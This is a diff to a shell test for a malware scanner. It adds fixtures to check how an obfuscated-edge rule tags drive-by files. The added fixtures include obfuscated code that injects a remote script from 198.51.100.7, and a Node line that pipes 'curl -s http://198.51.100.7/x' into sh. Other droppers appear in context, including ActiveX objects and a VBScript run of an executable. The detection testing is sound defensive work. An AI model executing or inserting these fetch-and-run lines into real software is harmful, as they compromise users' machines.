@@ -1,7 +1,8 @@
 #!/bin/sh
 # Drive-by files caught by an obfuscation or dropper rule get the drive-by's id beside it
 # (issue 16): an obfuscated eval appended to a library whose decoded text writes an iframe into
-# the page (T1189), an obfuscated browser script that makes ActiveX objects (T1189), a page that
+# the page (T1189), an obfuscated browser script that makes ActiveX objects (T1189), code appended
+# on a library's last line (T1189; not in a Node script: a #! line, require('fs')), a page that
 # makes a dropper's objects through an ActiveX control it created by class id (RDS.DataSpace,
 # T1203). The notes are info findings: the verdict stays the base rule's. The same rules over a
 # Node script, a WSH script, an HTML application and a VBScript dropper add no such id. Addresses are from the
@@ -31,6 +32,13 @@ obj = "".join("var %s = String.fromCharCode(%s);\n" % (
 w("activex-page.js", obj +
   "var o = new ActiveXObject(vab0 + vbc1);\nif (navigator.userAgent) { document.title = o.version; }\n")
 w("activex-wsf.js", obj + "var o = new ActiveXObject(vab0 + vbc1);\nvar r = o.version;\n")
+# a library with code appended on its last line (ek5's edge rule), loaded by a page or run by Node
+big = "".join(lib.replace("mix", "mix%d_" % k) for k in range(12))
+edge = codes("var s = document.createElement('script'); s.src = 'http://198.51.100.7/j.js'; "
+             "document.head.appendChild(s);")
+w("edge-page.js", big + edge)
+w("edge-node.js", "#!/usr/bin/env node\nvar fs = require('fs');\n" + big +
+  codes("require('child_process').exec('curl -s http://198.51.100.7/x | sh', function () {});"))
 w("activex-app.hta", "<script>\n" + obj + "var o = new ActiveXObject(vab0 + vbc1);\nvar r = o.version;\nwindow.close();\n</script>\n")
 PY
 cat >"$t/rds.htm" <<'EOF'
@@ -67,6 +75,7 @@ q.Run "c:\a.exe", 0
 EOF
 "$AIRLOCK" analyze --json --no-cache "$t"/lib-iframe.js "$t"/lib-node.js "$t"/lib-wsh.js \
         "$t"/activex-page.js "$t"/activex-wsf.js "$t"/activex-app.hta "$t"/rds.htm "$t"/dropper.vbs \
+        "$t"/edge-page.js "$t"/edge-node.js \
         >"$t/report.json" 2>"$t/err"
 expect_eq "analyze-exit-1" 1 $?
 python3 - "$t/report.json" <<'PY'
@@ -102,6 +111,8 @@ check("activex-wsf.js", "jsshape_obfuscated_activex", "jsshape_obfuscated_active
 check("activex-app.hta", "jsshape_obfuscated_activex", "jsshape_obfuscated_activex_browser", "T1189", False)
 check("rds.htm", "wsh_dropper", "wsh_dropper_activex_control", "T1203", True)
 check("dropper.vbs", "wsh_dropper", "wsh_dropper_activex_control", "T1203", False)
+check("edge-page.js", "pageshape_script_obfuscated_edge", "pageshape_script_obfuscated_edge_page", "T1189", True)
+check("edge-node.js", "pageshape_script_obfuscated_edge", "pageshape_script_obfuscated_edge_page", "T1189", False)
 # the iframe note is the only difference an info finding may make: the verdict of the library
 # is what jsshape_obfuscated_eval (medium) makes alone
 f = files.get("lib-iframe.js", {})
